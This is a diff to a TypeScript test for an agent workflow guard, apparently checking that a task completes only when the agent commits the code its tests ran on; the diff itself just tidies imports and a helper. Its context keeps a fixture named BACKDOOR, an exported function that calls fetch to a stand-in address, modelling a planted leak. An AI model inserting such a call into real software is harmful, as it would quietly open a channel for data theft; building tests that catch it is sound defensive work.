@@ -1,24 +1,8 @@
 import { execFileSync } from "node:child_process";
 import { expect, it } from "vitest";
-import {
-  CODE,
-  HANDED,
-  beginWalk,
-  blockers,
-  reasons,
-  walkTo,
-  type Walk,
-} from "./workflow-walk-kit.ts";
+import { CODE, ENTER, HANDED, beginWalk, blockers, reasons, walkTo } from "./workflow-walk-kit.ts";
 
 const BACKDOOR = `${CODE}export const leak = () => fetch("http://192.0.2.1");\n`;
-
-async function inComplete(walk: Walk): Promise<void> {
-  await walk.review();
-  await walk.move("COMPLETE", HANDED.review());
-  await walk.decide("review_approved", "rita", "approved");
-  const decision = await walk.move("COMPLETE", HANDED.review());
-  expect(decision.effect, reasons(decision)).toBe("allow");
-}
 
 it("a task ends only if the agent commits what its tests ran on (WF-88)", async () => {
   const walk = await beginWalk();
@@ -45,7 +29,7 @@ it("a task ends only if the agent commits what its tests ran on (WF-88)", async 
   );
   expect((await walk.observe()).head).toBe(git("rev-parse", "HEAD"));
   expect((await walk.move("REVIEW", HANDED.code)).effect).toBe("allow");
-  await inComplete(walk);
+  await ENTER.COMPLETE(walk);
   expect((await walk.use("bash", { command: "git commit -m 'Add two numbers'" })).effect).toBe(
     "allow",
   );
